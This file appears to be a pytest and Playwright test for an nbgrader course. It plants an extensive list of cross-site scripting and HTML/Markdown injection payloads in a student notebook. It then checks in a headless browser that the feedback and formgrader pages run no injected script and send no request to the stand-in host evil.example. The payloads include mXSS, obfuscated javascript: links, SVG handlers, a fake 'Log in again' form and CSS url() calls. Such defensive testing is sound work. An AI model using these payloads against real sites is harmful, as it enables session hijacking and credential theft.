@@ -1,0 +1,308 @@
+"""Open what a hostile notebook becomes in a real browser: the feedback, and formgrader's page."""
+
+import base64
+import json
+import os
+import shutil
+import sys
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any, NamedTuple
+
+import pytest
+from playwright.sync_api import Browser, sync_playwright
+
+ROOT = Path(__file__).parents[1]
+sys.path.insert(0, str(ROOT / "tests"))
+
+from formgrading import formgrader, get, run  # noqa: E402
+
+NAME = "tic-tac-toe"
+COPIED = ("nbgrader_config.py", "pyproject.toml", "games.py", "check.py")
+BROWSERS = ("chromium", "chromium-browser", "google-chrome", "chrome")
+NO_BROWSER = (
+    "this test opens pages in Chromium, which is not installed: on Debian and Ubuntu "
+    "`apt-get install chromium`, elsewhere install Chromium or Chrome"
+)
+OPTIONS = ["--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
+           "--no-first-run", "--disable-background-networking", "--disable-component-update",
+           "--disable-sync"]  # fmt: skip
+DOT = (
+    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNg"
+    "+M/wHwAEAQH/7yMK/gAAAABJRU5ErkJggg=="
+)
+EVIL = "http://evil.example"
+SCRIPT = base64.b64encode(b"<svg xmlns='http://www.w3.org/2000/svg' onload='stolen(1)'/>").decode()
+
+# Each calls `stolen`, asks for something elsewhere, or takes over the page, if it is left as it is.
+ATTACKS = f"""\
+<script>stolen('script')</script>
+<img src=x onerror="stolen('onerror')">
+<svg onload="stolen('svg')"><script>stolen('svg script')</script></svg>
+<svg><animate attributeName=x onbegin="stolen('animate')" dur=1s></svg>
+<svg><use href="data:image/svg+xml;base64,{SCRIPT}#x"/></svg>
+<svg><style><img src=x onerror="stolen('style in svg')"></style></svg>
+<math><mtext><table><mglyph><style><!--</style>
+<img title="--&gt;&lt;img src=x onerror=stolen('mxss')&gt;">
+<noscript><p title="</noscript><img src=x onerror=stolen('noscript')>"></noscript>
+<details open ontoggle="stolen('toggle')">x</details>
+<input autofocus onfocus="stolen('focus')"><video src=x onerror="stolen('video')"></video>
+<iframe srcdoc="<script>parent.stolen('srcdoc')</script>"></iframe>
+<iframe src="{EVIL}/iframe"></iframe>
+<object data="{EVIL}/object"></object><embed src="{EVIL}/embed"><base href="{EVIL}/base/">
+<meta http-equiv="refresh" content="0;url={EVIL}/meta"><link rel=stylesheet href="{EVIL}/link">
+<style>@import url({EVIL}/import);
+body{{background:url({EVIL}/style)}}</style>
+<p style="background:url({EVIL}/a);background-color:u\\72l({EVIL}/b);position:fixed;top:0">over</p>
+<img src="{EVIL}/img"><img srcset="{EVIL}/srcset 1x">
+<picture><source srcset="{EVIL}/source"></picture>
+<table background="{EVIL}/table"><tr><td background="{EVIL}/td">x</td></tr></table>
+<img src="data:image/svg+xml;base64,{SCRIPT}"><audio src="{EVIL}/audio" autoplay></audio>
+<form action="{EVIL}/form"><button>Log in again</button></form><div id="notebook">twice</div>
+<a href="javascript:stolen('link')">a</a><a href=" &#1;java&#10;script:stolen('link')">b</a>
+<a href="data:text/html,<script>stolen()</script>">c</a><a href="evil.html">d</a>
+<a href="//evil.example/">e</a>
+</div></div></div></td></table><plaintext>
+"""
+MARKDOWN = f"""\
+[one](javascript:stolen('md')) [two](<java\tscript:stolen()>) ![three]({EVIL}/md.png)
+![four](attachment:gone.png) ![dot](attachment:dot.png) <javascript:stolen()>
+
+\\[five\\](javascript:stolen('again')) `<script>stolen('code')</script>` $x < y$
+$\\href{{javascript:stolen()}}{{x}}$
+
+[six]: javascript:stolen()
+[six] ![seven](data:image/svg+xml;base64,{SCRIPT})
+
+<pre>
+
+[eight](javascript:stolen())
+</pre>
+
+"""
+CODE = [
+    "from IPython.display import *",
+    "ATTACKS = {attacks!r}",
+    "HTML(ATTACKS)",
+    "display(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\">' + ATTACKS + '</svg>'))",
+    "display(Markdown(MARKDOWN + ATTACKS))",
+    "Javascript('stolen(\"Javascript\")')",
+    "display(Latex('$\\\\href{{javascript:stolen()}}{{x}}$' + ATTACKS))",
+    "display({{'application/vnd.jupyter.widget-view+json': {{'model_id': ATTACKS}}, "
+    "'text/vnd.mermaid': ATTACKS, 'text/plain': ATTACKS}}, raw=True)",
+    "display({{'text/html': ATTACKS}}, raw=True, metadata={{'text/html': {{'isolated': True}}}})",
+    "display({{'image/png': '\"><script>stolen(1)</script>', 'text/plain': ''}}, raw=True)",
+    "print(ATTACKS, '\\x1b[31m' + ATTACKS, '\\x1b]8;;javascript:stolen()\\x07link')",
+    "import sys; print(ATTACKS, file=sys.stderr)",
+    "raise type(ATTACKS, (Exception,), {{}})(ATTACKS + '\\x1b[1m' + ATTACKS)",
+    "raise ValueError('<b>' + '$\\\\href{{javascript:stolen()}}{{x}}$')",
+    "class TicTacToe:\n    def __init__(self, *_): raise KeyError(ATTACKS)\n    m = MARKDOWN",
+]
+
+
+def hostile() -> dict[str, Any]:
+    """Return the released notebook with attacks in every place that is a student's."""
+    notebook = json.loads((ROOT / "release" / NAME / f"{NAME}.ipynb").read_text("utf-8"))
+    filled = {"attacks": ATTACKS, "markdown": MARKDOWN}
+    sources = [source.format(**filled) for source in CODE]
+    sources[1] += f"\nMARKDOWN = {MARKDOWN!r}"
+    metadata = {"tags": [ATTACKS], "raw_mimetype": "text/html", "name": ATTACKS}
+    extra = [("code", source) for source in sources]
+    extra += [("markdown", MARKDOWN + ATTACKS), ("markdown", ATTACKS), ("raw", ATTACKS)]
+    extra += [("markdown", "x" * 20_001 + ATTACKS), ("markdown", "> - " + ATTACKS)]
+    for kind, source in extra:
+        cell: dict[str, Any] = {"cell_type": kind, "metadata": metadata, "source": source}
+        if kind == "code":
+            cell |= {"execution_count": 1, "outputs": [
+                {"output_type": "display_data", "data": {"text/html": ATTACKS}, "metadata": {}}
+            ]}  # fmt: skip
+        elif kind == "markdown":
+            cell["attachments"] = {"dot.png": {"image/png": DOT}, ATTACKS: {"text/html": ATTACKS}}
+        notebook["cells"].append(cell)
+    for cell in notebook["cells"]:
+        if cell.get("id") == "evaluation-b-answer":
+            cell["source"] = MARKDOWN + ATTACKS
+        if cell.get("id") in ("test_MiniMax", "conventions"):
+            cell["metadata"]["nbgrader"]["grade_id"] = ATTACKS
+    notebook["metadata"] |= {
+        "title": ATTACKS,
+        "widgets": {"application/vnd.jupyter.widget-state+json": {"x": ATTACKS}},
+        "language_info": {"name": ATTACKS, "pygments_lexer": ATTACKS},
+        "kernelspec": {"name": ATTACKS, "display_name": ATTACKS, "language": ATTACKS},
+    }
+    return notebook  # type: ignore[no-any-return]
+
+
+class Seen(NamedTuple):
+    """What happened when a page was opened."""
+
+    stolen: list[str]
+    dialogs: list[str]
+    requests: set[str]
+    links: set[str]
+    tags: dict[str, int]
+    styles: list[str]
+    text: str
+
+
+@pytest.fixture(scope="module")
+def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Browser]:
+    """A real browser without a window."""
+    path = next(filter(None, map(shutil.which, BROWSERS)), None)
+    if path is None:
+        pytest.fail(NO_BROWSER)
+    home = {"HOME": str(tmp_path_factory.mktemp("home"))}
+    with sync_playwright() as playwright:
+        browser = playwright.chromium.launch(
+            executable_path=path, headless=True, args=OPTIONS, env=os.environ | home
+        )
+        yield browser
+        browser.close()
+
+
+def opened(browser: Browser, address: str) -> Seen:
+    """Open a page, let nothing but the page and its own server answer, and look at what it did."""
+    dialogs, requests = [], set()
+    origin = address[: address.index("/", 8)]
+    page = browser.new_page()
+    page.add_init_script("window.owned = []; window.stolen = where => owned.push(String(where))")
+    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
+
+    def answer(route: Any) -> None:
+        requests.add(route.request.url)
+        mine = route.request.url.startswith(origin) and "evil" not in route.request.url
+        route.continue_() if mine else route.abort()
+
+    page.route("**/*", answer)
+    page.goto(address, wait_until="load")
+    page.evaluate("() => document.querySelectorAll('details').forEach(d => d.open = true)")
+    page.evaluate("() => new Promise(done => requestAnimationFrame(() => setTimeout(done, 0)))")
+    found = page.evaluate(
+        """() => {
+            const tags = {}, styles = [], all = [...document.querySelectorAll('*')];
+            for (const e of all) {
+                tags[e.localName] = (tags[e.localName] || 0) + 1;
+                if (getComputedStyle(e).position === 'fixed') styles.push(e.outerHTML);
+                for (const a of e.attributes) if (a.name.startsWith('on')) styles.push(e.outerHTML);
+            }
+            const links = all.filter(e => e.localName === 'a').map(e => e.getAttribute('href'));
+            return {owned, tags, styles, links, text: document.body.innerText};
+        }"""
+    )
+    page.close()
+    links = {link for link in found["links"] if link}
+    return Seen(
+        found["owned"], dialogs, requests, links, found["tags"], found["styles"], found["text"]
+    )
+
+
+@pytest.fixture(scope="module")
+def graded(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A course with a hostile and a harmless submission, graded by nbgrader's own commands."""
+    root = tmp_path_factory.mktemp("course")
+    for name in (*COPIED, "requirements-student.txt"):
+        shutil.copy(ROOT / name, root)
+    for name in ("source", "tests/hidden"):
+        shutil.copytree(ROOT / name, root / name)
+    run(root, "nbgrader", "generate_assignment", NAME)
+    for student, content in (
+        ("hostile", json.dumps(hostile())),
+        ("harmless", (ROOT / "release" / NAME / f"{NAME}.ipynb").read_text("utf-8")),
+    ):
+        folder = root / "submitted" / student / NAME
+        folder.mkdir(parents=True)
+        (folder / f"{NAME}.ipynb").write_text(content, "utf-8")
+    (root / "submitted" / "hostile" / NAME / "evil.html").write_text(ATTACKS)
+    run(root, "nbgrader", "autograde", NAME)
+    run(root, "nbgrader", "generate_feedback", NAME)
+    return root
+
+
+@pytest.fixture(scope="module")
+def feedback(graded: Path, browser: Browser) -> dict[str, Seen]:
+    """The feedback pages of both students."""
+    pages = {name: graded / "feedback" / name / NAME / f"{NAME}.html" for name in STUDENTS}
+    return {name: opened(browser, page.as_uri()) for name, page in pages.items()}
+
+
+@pytest.fixture(scope="module")
+def marking(graded: Path, browser: Browser) -> Iterator[dict[str, Seen]]:
+    """Formgrader's pages on which an instructor marks both students by hand."""
+    with formgrader(graded) as address:
+        entries = json.loads(get(f"{address}/api/submitted_notebooks/{NAME}/{NAME}"))
+        pages = {entry["student"]: f"{address}/submissions/{entry['id']}/" for entry in entries}
+        yield {name: opened(browser, page) for name, page in pages.items()}
+
+
+STUDENTS = ("hostile", "harmless")
+BOTH = pytest.mark.parametrize("where", ["feedback", "marking"])
+
+
+def test_this_browser_would_see_an_attack(browser: Browser, tmp_path: Path) -> None:
+    """When the attacks are not made harmless, do scripts run and requests leave?"""
+    page = tmp_path / "raw.html"
+    page.write_text("<body>" + ATTACKS.replace("http-equiv", "name"))  # it would be gone at once
+    seen = opened(browser, page.as_uri())
+    assert {"script", "onerror", "svg", "toggle"} <= set(seen.stolen)
+    assert any(url.startswith(f"{EVIL}/img") for url in seen.requests)
+    assert seen.styles
+
+
+@BOTH
+def test_no_script_of_a_student_runs(request: pytest.FixtureRequest, where: str) -> None:
+    """Is nothing that a student wrote carried out, wherever it was written?"""
+    seen = request.getfixturevalue(where)["hostile"]
+    assert (seen.stolen, seen.dialogs) == ([], [])
+
+
+def path(url: str) -> str:
+    """Return an address without what differs from student to student."""
+    parts = url.partition("?")[0].split("/")
+    return parts[-1] if url.startswith("http") else "/".join(p for p in parts if p not in STUDENTS)
+
+
+@BOTH
+def test_no_request_leaves_for_a_student(request: pytest.FixtureRequest, where: str) -> None:
+    """Does a hostile page load only what nbgrader's page loads anyhow, and nothing as data?"""
+    seen = request.getfixturevalue(where)
+    asked = {
+        name: {url for url in seen[name].requests if "data:image/png" not in url}
+        for name in STUDENTS
+    }
+    assert not any("evil" in url for url in asked["hostile"])
+    assert len(asked["hostile"]) == len(asked["harmless"])
+    assert {url for url in asked["hostile"] if "cdn" in url} == {
+        url for url in asked["harmless"] if "cdn" in url
+    }
+
+
+@BOTH
+def test_the_page_stays_nbgraders(request: pytest.FixtureRequest, where: str) -> None:
+    """Are there no more scripts, styles, frames and fields than on a harmless page?"""
+    seen = request.getfixturevalue(where)
+    kept = (
+        "script",
+        "style",
+        "link",
+        "meta",
+        "base",
+        "iframe",
+        "object",
+        "form",
+        "input",
+        "button",
+    )
+    counts = {name: {tag: seen[name].tags.get(tag, 0) for tag in kept} for name in STUDENTS}
+    assert counts["hostile"] == counts["harmless"]
+    assert len(seen["hostile"].styles) == len(seen["harmless"].styles)
+    links = seen["hostile"].links - seen["harmless"].links
+    assert [link for link in links if "stolen" in link or "evil" in link] == []
+
+
+@BOTH
+def test_what_is_harmless_is_shown(request: pytest.FixtureRequest, where: str) -> None:
+    """Can one still read the text, the formulas and the code, and see the picture?"""
+    seen = request.getfixturevalue(where)["hostile"]
+    for words in ("five", "six", "over", "$x < y$", "<script>stolen('code')</script>"):
+        assert words in seen.text
+    assert seen.tags.get("img", 0) > request.getfixturevalue(where)["harmless"].tags.get("img", 0)
